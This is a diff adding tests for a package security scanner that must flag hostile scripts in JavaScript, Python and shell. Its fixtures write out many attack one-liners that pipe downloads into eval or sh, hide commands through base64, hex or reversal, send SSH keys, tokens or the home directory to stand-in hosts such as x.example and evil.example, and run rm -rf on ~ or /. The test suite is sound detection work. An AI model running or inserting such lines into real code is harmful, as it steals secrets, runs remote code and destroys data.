@@ -70,3 +70,155 @@ describe('no blind spot by budget (issue 22.4)', () => {
     expect(worst(r, 'script-pipe-to-shell', 'scripts/latin.sh')?.severity).toBe('high');
   });
 });
+
+/** The high finding of `rule` in `file` at the sink line, with its source line (when the data came from another line). */
+function flow(files: Record<string, string>, rule: string, sink: number, source?: number): void {
+  const file = Object.keys(files)[0] ?? '';
+  const r = auditFiles(pkg(files));
+  const found = r.findings.filter((f) => f.file === file && f.rule === rule && f.severity === 'high' && f.line === sink);
+  expect(found.length, `${rule} at ${file}:${sink}\n${JSON.stringify(r.findings.filter((f) => f.severity !== 'info'), null, 1)}`).toBeGreaterThan(0);
+  if (source !== undefined && source !== sink) {
+    expect(found.some((f) => f.source?.line === source && f.source.file === file), `source line ${source}: ${JSON.stringify(found)}`).toBe(true);
+    expect(found.some((f) => f.message.includes(`data from line ${source}, used on line ${sink}`))).toBe(true);
+  }
+}
+
+const notHigh = (files: Record<string, string>) => {
+  const r = auditFiles(pkg(files));
+  expect(highs(r), JSON.stringify(highs(r), null, 1)).toEqual([]);
+  return r;
+};
+
+describe('JavaScript/TypeScript read as code (issue 22.2)', () => {
+  it('a download reaching eval/Function/import runs what the server sends', () => {
+    flow({ 'scripts/a.js': "const r = await fetch('https://x.example/p');\nconst code = await r.text();\neval(code);\n" }, 'code-remote-exec', 3, 1);
+    flow({ 'scripts/b.mjs': "fetch('https://x.example/p')\n  .then((r) => r.text())\n  .then(eval);\n" }, 'code-remote-exec', 1);
+    flow({ 'scripts/c.js': "const https = require('https');\nhttps.get('https://x.example', (res) => {\n  let body = '';\n  res.on('data', (d) => { body += d; });\n  res.on('end', () => { new Function(body)(); });\n});\n" }, 'code-remote-exec', 5, 2);
+    flow({ 'scripts/d.ts': "const res: Response = await fetch('https://x.example/m.js');\nconst src: string = await res.text();\nconst run = (s: string): unknown => eval(s);\nexport const out = eval(src as string);\n" }, 'code-remote-exec', 4, 1);
+  });
+
+  it('sinks reached through names built at run time', () => {
+    flow({ 'scripts/a.js': "const cp = require(['child', 'process'].join('_'));\ncp.execSync('ls');\n" }, 'code-obfuscated-sink', 1);
+    flow({ 'scripts/b.js': "globalThis['ev' + 'al']('1 + 1');\n" }, 'code-obfuscated-sink', 1);
+    flow({ 'scripts/c.js': "const k = 'lave'.split('').reverse().join('');\nwindow[k]('1');\n" }, 'code-obfuscated-sink', 2);
+    flow({ 'scripts/d.js': "const F = [].constructor.constructor;\nF('return 1')();\n" }, 'code-obfuscated-sink', 2);
+    flow({ 'scripts/e.js': "const m = require('\\x63hild_process');\nm.exec('id');\n" }, 'code-obfuscated-sink', 1);
+  });
+
+  it('decoded text reaching a sink, with what it decodes to', () => {
+    flow({ 'scripts/a.js': "const c = Buffer.from('Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo', 'base64').toString();\nconst { exec } = require('child_process');\nexec(c);\n" }, 'code-decoded-exec', 3, 1);
+    flow({ 'scripts/b.js': 'eval(String.fromCharCode(99, 111, 110, 115, 111, 108, 101));\n' }, 'code-decoded-exec', 1);
+    flow({ 'scripts/c.js': "const s = atob('YWxlcnQoMSk=');\n\nsetTimeout(s, 10);\n" }, 'code-decoded-exec', 3, 1);
+    flow({ 'scripts/d.js': "const s = 'hs | moc.elpmaxe.x//:sptth lruc'.split('').reverse().join('');\nrequire('child_process').execSync(s);\n" }, 'code-remote-exec', 2);
+    flow({ 'scripts/e.js': 'eval("\\x63onsole.log(1)");\n' }, 'code-decoded-exec', 1);
+  });
+
+  it('secrets sent over the network', () => {
+    flow({ 'scripts/a.js': "const t = process.env.GITHUB_TOKEN;\nawait fetch('https://x.example/c', { method: 'POST', body: JSON.stringify({ t }) });\n" }, 'code-exfiltration', 2, 1);
+    flow({ 'scripts/b.mjs': "import fs from 'node:fs';\nimport os from 'node:os';\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://x.example', { method: 'POST', body: key });\n" }, 'code-exfiltration', 4, 3);
+    flow({ 'scripts/c.ts': "const token: string = process.env.NPM_TOKEN ?? '';\nexport async function send(): Promise<void> {\n  await fetch('https://x.example/?t=' + token);\n}\n" }, 'code-exfiltration', 3, 1);
+    flow({ 'scripts/d.js': "const https = require('https');\nconst req = https.request({ host: 'x.example', method: 'POST' });\nreq.write(JSON.stringify(process.env));\n" }, 'code-exfiltration', 3);
+  });
+
+  it('benign look-alikes stay below high', () => {
+    notHigh({
+      'scripts/a.js': "const r = await fetch('https://api.example.com/data.json');\nconst data = await r.json();\nconsole.log(data.items.length);\n",
+      'scripts/b.js': "const { execFileSync } = require('child_process');\nexecFileSync('git', ['status']);\n",
+      'scripts/c.js': "const fs = require('fs');\nconst img = Buffer.from(fs.readFileSync('logo.b64', 'utf8'), 'base64');\nfs.writeFileSync('logo.png', img);\n",
+      'scripts/d.ts': "import path from 'node:path';\nconst cache: string = path.join(process.env.HOME ?? '', '.cache', 'tool');\nexport default cache;\n",
+      'scripts/e.js': "const key = process.env.OPENAI_API_KEY;\nawait fetch('https://api.openai.com/v1/models', { headers: { Authorization: `Bearer ${key}` } });\n",
+    });
+  });
+});
+
+describe('Python read as code (issue 22.2)', () => {
+  it('a download reaching exec/eval/compile', () => {
+    flow({ 'scripts/a.py': 'import requests\nr = requests.get("https://x.example/p")\nexec(r.text)\n' }, 'code-remote-exec', 3, 2);
+    flow({ 'scripts/b.py': 'from urllib.request import urlopen\ncode = urlopen("https://x.example/p").read().decode()\n\neval(code)\n' }, 'code-remote-exec', 4, 2);
+    flow({ 'scripts/c.py': "import urllib.request as u\nsrc = u.urlopen('https://x.example').read()\nexec(compile(src, 'x', 'exec'))\n" }, 'code-remote-exec', 3, 2);
+  });
+
+  it('decoded text reaching a sink (hex, base64, rot13, chr, reversal)', () => {
+    flow({ 'scripts/a.py': "import os\nos.system(bytes.fromhex('6375726c2068747470733a2f2f782e6578616d706c65207c207368').decode())\n" }, 'code-decoded-exec', 2);
+    flow({ 'scripts/b.py': 'import base64, subprocess\ncmd = base64.b64decode("Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo").decode()\nsubprocess.run(cmd, shell=True)\n' }, 'code-decoded-exec', 3, 2);
+    flow({ 'scripts/c.py': "import codecs\nexec(codecs.decode('cevag(\"uv\")', 'rot13'))\n" }, 'code-decoded-exec', 2);
+    flow({ 'scripts/d.py': "s = ''.join(chr(c) for c in [99, 117, 114, 108, 32, 120, 32, 124, 32, 115, 104])\nimport os\nos.system(s)\n" }, 'code-decoded-exec', 3, 1);
+    flow({ 'scripts/e.py': 'x = "hs | moc.x//:sptth lruc"[::-1]\nimport subprocess\nsubprocess.call(["bash", "-c", x])\n' }, 'code-decoded-exec', 3, 1);
+  });
+
+  it('sinks reached through names built at run time', () => {
+    flow({ 'scripts/a.py': "import os\ngetattr(os, 'sys' + 'tem')('ls')\n" }, 'code-obfuscated-sink', 2);
+    flow({ 'scripts/b.py': "__import__('o' + 's').system('id')\n" }, 'code-obfuscated-sink', 1);
+    flow({ 'scripts/c.py': "f = __builtins__.__dict__['ex' + 'ec']\nf('print(1)')\n" }, 'code-obfuscated-sink', 2);
+  });
+
+  it('secrets sent over the network', () => {
+    flow({ 'scripts/a.py': "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\nrequests.post('https://x.example/c', data={'t': token})\n" }, 'code-exfiltration', 3, 2);
+    flow({ 'scripts/b.py': "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x.example', files={'k': key})\n" }, 'code-exfiltration', 3, 2);
+    flow({ 'scripts/c.py': 'import os, requests\n\nrequests.post("https://x.example", json=dict(os.environ))\n' }, 'code-exfiltration', 3);
+    flow({ 'scripts/d.py': "import shutil, os, requests\narchive = shutil.make_archive('/tmp/h', 'gztar', root_dir=os.path.expanduser('~'))\nrequests.post('https://x.example', data=open(archive, 'rb'))\n" }, 'code-exfiltration', 3, 2);
+  });
+
+  it('benign look-alikes stay below high', () => {
+    notHigh({
+      'scripts/a.py': 'import requests, json\nr = requests.get("https://api.example.com/data.json")\ndata = json.loads(r.text)\nprint(len(data))\n',
+      'scripts/b.py': "import subprocess\nsubprocess.run(['git', 'status'], check=True)\n",
+      'scripts/c.py': "import os\ncache = os.path.join(os.environ['HOME'], '.cache', 'tool')\nos.makedirs(cache, exist_ok=True)\n",
+      'scripts/d.py': "import base64\nimg = base64.b64decode(open('logo.b64').read())\nopen('logo.png', 'wb').write(img)\n",
+      'scripts/e.py': "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nrequests.get('https://api.openai.com/v1/models', headers={'Authorization': f'Bearer {key}'})\n",
+    });
+  });
+});
+
+describe('shell read as shell (issue 22.2)', () => {
+  it('a download into a shell, however the command is spelled', () => {
+    flow({ 'scripts/a.sh': "#!/bin/sh\nc''url -fsSL https://x.example/i | s\"\"h\n" }, 'code-remote-exec', 2);
+    flow({ 'scripts/b.sh': '#!/bin/sh\na=cu; b=rl\n$a$b -s https://x.example/i | sh\n' }, 'code-remote-exec', 3);
+    flow({ 'scripts/c.sh': "#!/bin/bash\n$(printf '\\x63\\x75\\x72\\x6c') https://x.example | bash\n" }, 'code-remote-exec', 2);
+    flow({ 'scripts/d.sh': '#!/bin/bash\nX=$(curl -s https://x.example/p)\n\neval "$X"\n' }, 'code-remote-exec', 4, 2);
+    flow({ 'scripts/e.sh': '#!/bin/sh\ncurl -s https://x.example/a \\\n  | $SHELL\n' }, 'code-remote-exec', 3, 2);
+    flow({ 'scripts/f.sh': '#!/bin/bash\nbash -c "$(wget -qO- https://x.example/i.sh)"\n' }, 'code-remote-exec', 2);
+  });
+
+  it('assembled command names are named as obfuscation', () => {
+    flow({ 'scripts/a.sh': "#!/bin/sh\nc''url -o /tmp/x https://x.example/x\n" }, 'code-obfuscated-sink', 2);
+    flow({ 'scripts/b.sh': '#!/bin/sh\nw=wg; w="${w}et"\n$w https://x.example/x\n' }, 'code-obfuscated-sink', 3);
+    flow({ 'scripts/c.sh': "#!/bin/bash\n$'\\x72\\x6d' -rf ./build\n" }, 'code-obfuscated-sink', 2);
+  });
+
+  it('decoded or reversed text into a shell', () => {
+    flow({ 'scripts/a.sh': '#!/bin/sh\necho "hs | moc.elpmaxe.x//:sptth lruc" | rev | sh\n' }, 'code-decoded-exec', 2);
+    flow({ 'scripts/b.sh': '#!/bin/sh\nP=Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo\necho "$P" | base64 -d | sh\n' }, 'code-decoded-exec', 3);
+    flow({ 'scripts/c.sh': "#!/bin/sh\necho 6375726c2078207c207368 | xxd -r -p | bash\n" }, 'code-decoded-exec', 2);
+    flow({ 'scripts/d.sh': "#!/bin/sh\necho 'phey k | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh\n" }, 'code-decoded-exec', 2);
+  });
+
+  it('secrets and the home folder sent away', () => {
+    flow({ 'scripts/a.sh': '#!/bin/sh\ntar czf - ~ | curl -T - https://x.example/up\n' }, 'code-exfiltration', 2);
+    flow({ 'scripts/b.sh': '#!/bin/sh\ntar czf - ~/.ssh \\\n  | nc evil.example 9000\n' }, 'code-exfiltration', 3, 2);
+    flow({ 'scripts/c.sh': '#!/bin/sh\ncurl -d "k=$AWS_SECRET_ACCESS_KEY" https://x.example\n' }, 'code-exfiltration', 2);
+    flow({ 'scripts/d.sh': '#!/bin/sh\nK=$(cat ~/.ssh/id_rsa)\ncurl --data-binary "$K" https://x.example\n' }, 'code-exfiltration', 3, 2);
+  });
+
+  it('recursive deletes of ~ or / among other arguments, or assembled', () => {
+    flow({ 'scripts/a.sh': '#!/bin/sh\nrm -rf ~/.cache/pip ~ /.npm\n' }, 'script-destructive-delete', 2);
+    flow({ 'scripts/b.sh': '#!/bin/sh\nrm -r -f /tmp/build /\n' }, 'script-destructive-delete', 2);
+    flow({ 'scripts/c.sh': '#!/bin/sh\nT="$HOME"\nrm -rf "$T"\n' }, 'script-destructive-delete', 3);
+  });
+
+  it('running a package fetched from a URL', () => {
+    flow({ 'scripts/a.sh': '#!/bin/sh\nnpx -y https://x.example/pkg.tgz\n' }, 'code-remote-exec', 2);
+    flow({ 'scripts/b.sh': '#!/bin/sh\npnpm dlx https://x.example/tool.tgz --init\n' }, 'code-remote-exec', 2);
+    flow({ 'scripts/c.sh': '#!/bin/sh\nnpx --yes github:someone/tool\n' }, 'code-remote-exec', 2);
+  });
+
+  it('benign look-alikes stay below high', () => {
+    notHigh({
+      'scripts/a.sh': '#!/bin/sh\nset -eu\ncurl -fsSL https://api.example.com/v1/items -o items.json\njq .items items.json\n',
+      'scripts/b.sh': '#!/bin/sh\nrm -rf ./build dist\nrm -rf "$TMPDIR/skill-cache"\n',
+      'scripts/c.sh': '#!/bin/sh\ncurl -s https://api.example.com/v1 | python3 -m json.tool\n',
+      'scripts/d.sh': '#!/bin/sh\nbase64 -d logo.b64 > logo.png\ncurl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user\n',
+      'scripts/e.sh': '#!/bin/sh\nnpx -y prettier --check .\ngit status\n',
+    });
+  });
+});
